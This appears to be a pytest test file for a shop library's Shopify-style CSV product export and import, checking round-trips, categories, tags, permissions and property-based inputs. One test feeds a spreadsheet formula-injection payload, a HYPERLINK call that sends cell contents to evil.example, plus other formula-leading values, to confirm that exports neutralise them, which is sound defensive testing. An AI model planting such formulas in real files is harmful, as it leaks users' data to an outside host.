"""A shop as a file, and the file as the same shop."""

import csv
import io
import itertools
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
from attrs import evolve
from hypothesis import HealthCheck, Phase, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from commerce_core import Money, open_shop
from commerce_core.access.errors import PermissionDenied
from commerce_core.access.model import GUEST, SYSTEM
from commerce_core.catalog.drafts import NewCategory, NewImage, NewProduct, NewVariant, ProductChanges
from commerce_core.catalog.model import ProductStatus, Seo
from commerce_core.catalog.staff_views import WordQuery
from commerce_core.catalog.tags import TagChanges
from commerce_core.gateways.local_media import PictureFolder
from commerce_core.imports.model import ImportReport
from commerce_core.imports.sheet import HEADER
from commerce_core.inventory.model import Movement, MovementType
from commerce_core.kernel.csv import unprotected
from commerce_core.postgres.migrate import migrate
from commerce_core.settings import Settings
from commerce_core.testing.builders import Builders
from commerce_core.wiring import Commerce

FILES = Path(__file__).with_name("files")
DEMO_SHOP = Path(__file__).parents[3] / "adapters_cli" / "demo_shop"


@pytest.fixture
def another_shop(empty_database_url: str, settings: Settings, tmp_path: Path) -> Iterator[Commerce]:
    """One that has nothing yet."""
    migrate(empty_database_url)
    with open_shop(empty_database_url, settings=evolve(settings, data_dir=str(tmp_path / "another"))) as opened:
        yield opened


def exported(shop: Commerce) -> str:
    return "".join(shop.imports.export_products(SYSTEM))


def imported(shop: Commerce, text: str) -> ImportReport:
    return shop.imports.import_products(SYSTEM, io.StringIO(text, newline=""))


def of_file(shop: Commerce, file: Path) -> ImportReport:
    with file.open(encoding="utf-8", newline="") as lines:
        return shop.imports.import_products(SYSTEM, lines, pictures=PictureFolder(file.parent))


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_both_header_generations_make_the_same_shop(shop: Commerce, another_shop: Commerce) -> None:
    told = ImportReport(created=3, variants=4, images=4, units=19)
    assert of_file(shop, FILES / "old-headers.csv") == told
    assert of_file(shop, FILES / "new-headers.csv") == ImportReport(unchanged=3)
    assert of_file(another_shop, FILES / "new-headers.csv") == told
    assert exported(another_shop) == exported(shop)
    mug = shop.catalog.product("stoneware-mug")
    assert [(variant.options, variant.price.amount) for variant in mug.variants] == [
        ({"Colour": "Moss", "Size": "S"}, 2400),
        ({"Colour": "Moss", "Size": "L"}, 2850),
    ]
    assert [image.url[-10:] for image in mug.images] == ["mug-1.webp", "mug-2.webp", "mug-3.webp"]
    assert mug.description_html.count("\n") == 5


def test_an_export_makes_the_same_shop_elsewhere_and_the_same_file_again(
    shop: Commerce, another_shop: Commerce
) -> None:
    of_file(shop, FILES / "old-headers.csv")
    text = exported(shop)
    assert imported(shop, text) == ImportReport(unchanged=3)
    assert imported(another_shop, text) == ImportReport(created=3, variants=4, images=4, units=19)
    assert exported(another_shop) == text
    assert another_shop.inventory.verify(SYSTEM) == []


def test_the_demo_shop_imports_its_own_export_without_a_change(shop: Commerce) -> None:
    made = of_file(shop, DEMO_SHOP / "products.csv")
    text = exported(shop)
    assert made.problems == ()
    assert made.images > made.created > 30
    assert imported(shop, text) == ImportReport(unchanged=made.created)
    assert exported(shop) == text


def test_rows_are_laid_out_as_shopify_lays_them_out(shop: Commerce) -> None:
    of_file(shop, FILES / "old-headers.csv")
    gift, apron, mug, large, from_above = rows(exported(shop))
    assert tuple(mug) == HEADER
    assert {row["Handle"] for row in (mug, large, from_above)} == {"stoneware-mug"}
    assert [row["Title"] for row in (mug, large, from_above, gift, apron)] == [
        "Stoneware mug", "", "", "Gift card", "'=Apron & co",
    ]  # fmt: skip
    assert (mug["Option1 Name"], large["Option1 Name"], large["Option1 Value"]) == ("Colour", "", "Moss")
    assert (mug["Variant Price"], mug["Variant Compare At Price"], mug["Variant Grams"]) == ("24.00", "30.00", "380")
    assert (mug["Variant Inventory Tracker"], mug["Variant Inventory Qty"]) == ("shopify", "7")
    assert (large["Variant Inventory Policy"], gift["Variant Inventory Tracker"]) == ("continue", "")
    assert (from_above["Variant Price"], from_above["Image Position"]) == ("", "3")
    assert (gift["Option1 Name"], gift["Option1 Value"]) == ("Title", "Default Title")
    assert [row["Status"] for row in (mug, gift, apron)] == ["active", "draft", "draft"]
    assert (gift["Published"], gift["Variant Taxable"]) == ("false", "false")


def test_no_cell_of_an_export_is_a_formula(shop: Commerce) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1)'
    variant = NewVariant(Money(500, "EUR"), ("@SUM(1)",), sku="-2")
    seo = Seo(meta_title="+1", meta_description="\t=1")
    shop.catalog.create_product(
        SYSTEM,
        NewProduct(evil, (variant,), vendor="-1+2", option_names=("=1",), tags=("+tag",), seo=seo),
    )
    (row,) = rows(exported(shop))
    assert row["Title"] == f"'{evil}"
    assert [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)


def test_an_export_tells_what_is_on_the_shelf_held_or_not(shop: Commerce, make: Builders) -> None:
    variant = make.variant(stock=10)
    make.cart((variant, 3))
    (row,) = rows(exported(shop))
    assert row["Variant Inventory Qty"] == "10"


def test_stock_beyond_what_a_file_may_open_with_is_exported_and_read_back(shop: Commerce, make: Builders) -> None:
    variant = make.variant(stock=1_000_000)
    shop.inventory.move(SYSTEM, Movement(variant, MovementType.RECEIPT, 500_000))
    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)


def test_a_category_is_told_by_a_title_that_leads_back_to_it(shop: Commerce) -> None:
    older = shop.categories.create(SYSTEM, NewCategory("Mugs", "mugs"))
    younger = shop.categories.create(SYSTEM, NewCategory("mugs", "mugs-too"))
    star = shop.categories.create(SYSTEM, NewCategory("★", "star"))
    for name, category in (("Old", older), ("Young", younger), ("Star", star)):
        product = NewProduct(name, (NewVariant(Money(1, "EUR")),), category_ids=(category,))
        shop.catalog.create_product(SYSTEM, product)
    assert {row["Handle"]: row["Type"] for row in rows(exported(shop))} == {"old": "Mugs", "star": "", "young": ""}
    assert imported(shop, exported(shop)) == ImportReport(unchanged=3)


def test_a_category_is_found_by_its_title_whatever_letters_the_database_knows(shop: Commerce) -> None:
    pastries = shop.categories.create(SYSTEM, NewCategory("Éclairs", "patisserie"))
    product = NewProduct("Éclair", (NewVariant(Money(1, "EUR")),), category_ids=(pastries,))
    shop.catalog.create_product(SYSTEM, product)
    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)


def test_a_tag_is_told_by_a_word_that_leads_back_to_it(shop: Commerce) -> None:
    variant = NewVariant(Money(1, "EUR"))
    shop.catalog.create_product(SYSTEM, NewProduct("Mug", (variant,), tags=("Soldes", "Red, blue")))
    soldes = next(tag for tag in shop.tags.list_all(SYSTEM, WordQuery()).items if tag.slug == "soldes")
    shop.tags.change(SYSTEM, soldes.id, TagChanges(title="Sale", slug="soldes"))
    assert rows(exported(shop))[0]["Tags"] == "Red  blue, soldes"
    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)


def test_an_apostrophe_comes_back_and_the_white_space_around_a_text_was_never_there(shop: Commerce) -> None:
    variants = tuple(NewVariant(Money(1, "EUR"), (size,), sku=sku) for size, sku in ((" S", "'007"), ("M ", "'-1 ")))
    image = NewImage("https://pictures.example/1.png", " front ")
    seo = Seo(" title ", " description\n")
    product = NewProduct(
        " Mug ", variants, vendor=" Mill", option_names=(" Size",), images=(image,), seo=seo, tags=(" new ",)
    )
    made = shop.catalog.create_product(SYSTEM, product)
    assert [(variant.option_values, variant.sku) for variant in made.variants] == [(("S",), "'007"), (("M",), "'-1")]
    assert (made.title, made.vendor, made.option_names, made.images[0].alt) == ("Mug", "Mill", ("Size",), "front")
    assert made.seo == Seo("title", "description")
    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)


def test_more_products_than_a_page_are_all_exported_once(shop: Commerce) -> None:
    text = "Handle,Title,Variant Price\n" + "".join(f"p-{n:03},P {n},1\n" for n in range(250))
    imported(shop, text)
    assert [row["Handle"] for row in rows(exported(shop))] == [f"p-{n:03}" for n in range(250)]


def test_an_empty_shop_is_a_file_of_names(shop: Commerce) -> None:
    assert exported(shop).splitlines() == [",".join(HEADER)]


def test_a_stranger_gets_no_export(shop: Commerce) -> None:
    with pytest.raises(PermissionDenied):
        shop.imports.export_products(GUEST)


def test_an_archived_product_keeps_its_status(shop: Commerce) -> None:
    product = shop.catalog.create_product(SYSTEM, NewProduct("Mug", (NewVariant(Money(1, "EUR")),)))
    shop.catalog.change_product(SYSTEM, product.id, ProductChanges(status=ProductStatus.ARCHIVED))
    assert rows(exported(shop))[0]["Status"] == "archived"
    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)


# What people type, with everything that spreadsheets, CSV and HTML could stumble over.
ODD = st.sampled_from("=+-@'\"<>&;,\t\u00a0 ＝é字a1")
LINE = st.text(ODD.filter(lambda c: c != "\t") | st.characters(codec="utf-8", exclude_categories=("Cc", "Zl", "Zp")))
WORDS = LINE.map(lambda text: f"{text[:40]}x{text[40:80]}")
PIECE = LINE | st.sampled_from(["\r\n", "\n", "\t", "<p>", "</p>", "<b>", "<script>", "&amp;"])
LONG = st.lists(PIECE, max_size=9).map(lambda pieces: "".join(pieces)[:900])
PRICE = st.integers(0, 1_000_000)
NUMBERS = itertools.count()  # A SKU is given once in a shop, and the shop outlives an example.
SKUS = st.builds(lambda head, tail: f"{head[:9]}#{next(NUMBERS)}{tail}", LINE, st.sampled_from(["", "'", "-", " é"]))


@st.composite
def variants(draw: st.DrawFn, options: int) -> tuple[NewVariant, ...]:
    """Of one product, each option value spelt in one way."""
    spelt: dict[tuple[int, str], str] = {}

    def as_read(key: tuple[str, ...]) -> tuple[str, ...]:
        return tuple(text.strip().casefold() for text in key)

    keys = [
        tuple(
            spelt.setdefault((place, read), text)
            for place, (read, text) in enumerate(zip(as_read(key), key, strict=True))
        )
        for key in draw(st.lists(st.tuples(*[WORDS] * options), min_size=1, max_size=4, unique_by=as_read))
    ]
    made = []
    for key in keys:
        price = draw(PRICE)
        former = draw(st.none() | st.integers(price + 1, price + 1_000))
        made.append(
            NewVariant(
                Money(price, "EUR"),
                key,
                sku=draw(st.none() | SKUS),
                barcode=draw(st.none() | st.sampled_from(["4006381333931", "96385074", "036000291452"])),
                compare_at_price=None if former is None else Money(former, "EUR"),
                weight_grams=draw(st.integers(0, 5_000)),
                taxable=draw(st.booleans()),
                requires_shipping=draw(st.booleans()),
            )
        )
    return tuple(made)


@st.composite
def products(draw: st.DrawFn) -> NewProduct:
    names = draw(st.lists(WORDS, max_size=3, unique_by=lambda name: name.strip().casefold()))
    pictures = draw(st.lists(st.integers(0, 9), unique=True, max_size=4))
    return NewProduct(
        title=draw(WORDS),
        description_html=draw(LONG),
        status=draw(st.sampled_from([ProductStatus.DRAFT, ProductStatus.ACTIVE])),
        vendor=draw(st.none() | WORDS),
        option_names=tuple(names),
        variants=draw(variants(len(names))),
        tags=tuple(draw(st.lists(WORDS, max_size=3))),
        images=tuple(NewImage(f"https://pictures.example/{n}.png", draw(LINE)[:80]) for n in pictures),
        seo=Seo(meta_title=draw(st.none() | LINE.map(lambda t: t[:80])), meta_description=draw(st.none() | LONG)),
    )


@hypothesis_settings(
    max_examples=20,
    deadline=None,
    phases=[Phase.explicit, Phase.generate],  # Tags and numbers stay, so a smaller example would not be the same.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(products(), min_size=1, max_size=3))
def test_whatever_a_shop_sells_its_export_changes_nothing(shop: Commerce, made: list[NewProduct]) -> None:
    with ExitStack() as afterwards:
        for product in made:
            created = shop.catalog.create_product(SYSTEM, product)
            afterwards.callback(shop.catalog.delete_product, SYSTEM, created.id)
        text = exported(shop)
        assert imported(shop, text) == ImportReport(unchanged=len(made))
        assert exported(shop) == text
        assert {product.title for product in made} <= {unprotected(row["Title"]) for row in rows(text)}
